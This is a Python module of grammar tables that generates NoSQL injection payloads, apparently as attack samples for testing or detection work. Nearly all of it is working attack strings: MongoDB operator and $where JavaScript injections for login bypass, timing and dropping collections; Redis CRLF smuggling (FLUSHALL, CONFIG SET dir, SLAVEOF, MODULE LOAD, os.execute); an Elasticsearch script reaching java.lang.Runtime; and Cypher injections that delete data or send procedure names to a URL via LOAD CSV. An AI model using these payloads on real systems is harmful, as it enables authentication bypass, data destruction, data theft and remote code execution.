"""NoSQL injection: operators where a value was expected, and JavaScript or commands inside strings.

Operators after the MongoDB manual; Redis, CouchDB, Elasticsearch and Cassandra after theirs.
"""

from models.generator.attacks.pieces import Grammar, Symbols, after_value

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "f": (
        "username", "user", "password", "email", "login", "_id", "token", "pin", "role", "‹id›",
        "‹id›.‹id›", "name",
    ),
    "cmp": (
        "$ne", "$ne", "$gt", "$gt", "$gte", "$lt", "$lte", "$nin", "$exists", "$regex", "$eq",
        "$not", "$in", "$type", "$size", "$all",
    ),
    "v": (
        "null", '""', "1", "-1", '"‹rnd›"', "‹n›", "true", '"^‹abc›"', '".*"', "[]", '["‹name›"]',
        '"admin"', "{}", '"^.{‹d›}$"', "undefined", '"‹id›"',
    ),
    "opv": (
        '{"$ne":‹v›}', '{"$gt":‹v›}', '{"‹cmp›":‹v›}', '{ "‹cmp›": ‹v› }', '{"$regex":"^‹abc›"}',
        '{"$regex":".*","$options":"i"}', '{"$in":["admin","‹name›","‹rnd›"]}',
        '{"$nin":["‹name›"]}', '{"$not":{"$eq":‹v›}}', '{"$exists":true}', "{$ne:‹v›}", "{$gt:''}",
        "{'$ne':'‹rnd›'}",
    ),
    "js": (
        "1==1", "this.‹f›.match(/^‹abc›/)", "sleep(‹n›)", "sleep(‹d›000)", "return true",
        "this.‹f›=='‹name›'", "this.‹f›.length>‹d›", "function(){return ‹n#1›==‹n#1›}",
        "Object.keys(this)[‹d›].match('^.{‹d›}‹abc›.*')", "this.‹f›[‹d›]=='‹abc›'",
        "db.‹id›.find()", "while(1){}", "function(){sleep(‹n›);return 1}",
        "var d=new Date();do{c=new Date();}while(c-d<‹n›)", "db.‹id›.drop()", "this.‹f›!=''",
        "'‹abc#1›'=='‹abc#1›'", "tojson(this)[0]=='{'", "emit(1,1)",
    ),
    "tail": (
        "//", "//+%00", "%00", "\x00", "'", "<!--", "", "/*", "//‹rnd›", ";//", "||'‹abc›'=='‹abc›",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)
_BEHIND = Grammar(_SYMBOLS, finish=after_value(0.45))

RULES = {
    **_GRAMMAR.rules(
        operator=(
            "‹opv›", "‹opv›", '{"‹f›":‹opv›}', '{"‹cmp›":‹v›,"‹cmp›":‹v›}', "[‹opv›]",
            '{"‹f›":‹opv›,"‹f›":‹v›}',
        ),
        login=(
            '{"username":‹opv›,"password":‹opv›}',
            '{"‹email¦user¦login›":"‹name›","‹password¦pass¦pwd›":‹opv›}',
            '{"‹f›": ‹opv›, "‹f›": ‹opv›}', '{"username":{"$eq":"admin"},"password":‹opv›}',
            '{"$or":[{"‹f›":"‹name›"},{"‹f›":‹opv›}]}',
        ),
        bracket=(
            "[‹cmp›]=‹rnd›", "‹f›[‹cmp›]=‹rnd›", "‹f›[‹cmp›]=",
            "‹f›[‹cmp›]=‹name›&‹f›[‹cmp›]=‹rnd›", "?‹f›[‹cmp›]=‹n›", "‹f›[$regex]=^‹abc›.*",
            "‹f›[$in][]=‹name›&‹f›[$in][]=admin", "‹f›[‹cmp›]", "‹f›%5B‹cmp›%5D=‹n›",
            "‹f›[$where]=‹js›", "&‹f›[$nin][]=‹name›", "[$or][‹d›][‹f›]=‹rnd›",
            "‹f›[$gt]=&‹f›[$ne]=‹abc›",
        ),
        where=(
            '{"$where":"‹js›"}', "{$where:'‹js›'}", "$where: '‹js›'",
            '{"‹f›":"‹name›","$where":"‹js›"}',
            '{"$where":"function(){return this.‹f›==\'‹name›\'}"}', "[$where]=‹js›",
            '{"$expr":{"$function":{"body":"function(){‹js›}","args":[],"lang":"js"}}}',
            '{"$func":"var_dump","‹f›":‹n›}', "db.eval('‹js›')",
        ),
        aggregate=(
            '[{"$lookup":{"from":"‹id›","localField":"‹f›","foreignField":"‹f›","as":"‹abc›"}}]',
            '{"$or":[{},{"‹f›":"‹rnd›"}]}',
            '{"mapreduce":"‹id›","map":"function(){‹js›}","reduce":"function(k,v){return 1}"}',
            '{"$accumulator":{"init":"function(){‹js›}"}}', '{"‹f›":{"$elemMatch":‹opv›}}',
            '[{"$unionWith":"‹id›"},{"$match":{"‹f›":‹opv›}}]',
            '{"$and":[{"‹f›":‹opv›},{"$where":"‹js›"}]}',
            '{"selector":{"_id":{"$gt":null}},"‹id›":‹n›}',
        ),
        other_stores=(
            "\r\nFLUSHALL\r\n‹rnd›", "\r\nCONFIG SET dir /var/www/‹id›\r\n",
            'EVAL "‹return redis.call(\'keys\',\'*\')¦os.execute(\'id\')›" ‹d›',
            '\r\nSET ‹id› "‹rnd›"\r\nQUIT\r\n', "%0d%0aset%20‹id›%200%20‹n›%20‹d›%0d%0a‹rnd›",
            "*1\r\n$8\r\nFLUSHALL\r\n*3\r\n$3\r\nset\r\n$‹d›\r\n‹abc›\r\n",
            "' ALLOW FILTERING;%00‹abc›",
            '{"script_fields":{"‹abc›":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtim'
            'e\\")"}}}',
            "SLAVEOF ‹ip› ‹port›\r\n", "MODULE LOAD /tmp/‹id›.so",
            "' RETURN ‹abc#1› UNION MATCH (‹abc#1›) DETACH DELETE ‹abc#1›//",
            "'}) RETURN ‹abc#1› UNION CALL db.labels() YIELD label AS ‹abc#1› RETURN ‹abc#1›//",
            "' OR 1=1 WITH 1 AS a CALL dbms.procedures() YIELD name LOAD CSV FROM '‹url›'+name AS "
            "l RETURN 0//",
        ),
    ),
    **_BEHIND.rules(
        string_breakout=(
            "' || '1'=='1", "' || '‹abc#1›'=='‹abc#1›‹tail›", "'||'‹d#1›'=='‹d#1›",
            "' && this.‹f›.match(/‹abc›.*/)‹tail›", "'; return '‹abc#1›' == '‹abc#1›",
            "' || ‹js›‹tail›", '" || ‹js› || "', "';‹js›;var ‹abc›='‹abc›",
            "'; sleep(‹n›); var ‹abc›='", "' && ‹n›==‹n› && '‹abc#1›'=='‹abc#1›",
            '"; return true; var ‹abc›="', "'});db.‹id›.‹drop¦insert¦find›({});//",
            "', $or: [ {}, { '‹abc›':'‹abc›", '", $where: "‹js›", $comment: "‹abc›',
            "', $or:[{},{'‹f›':'‹abc›'}],$comment:'‹rnd›",
            "' || this.‹f›.length > 0 || '‹abc#1›'!='‹abc#1›",
        ),
        javascript=(
            ";‹js›;‹rnd›", "0;‹js›", "1;return true//‹rnd›", "';‹js›//", "true, $where: '‹js›'",
            "', $where: '‹js›", ",$where:‹js›", "'+‹js›+'", "1 || ‹n#1›==‹n#1›;‹tail›",
            "');‹js›;//",
        ),
    ),
}
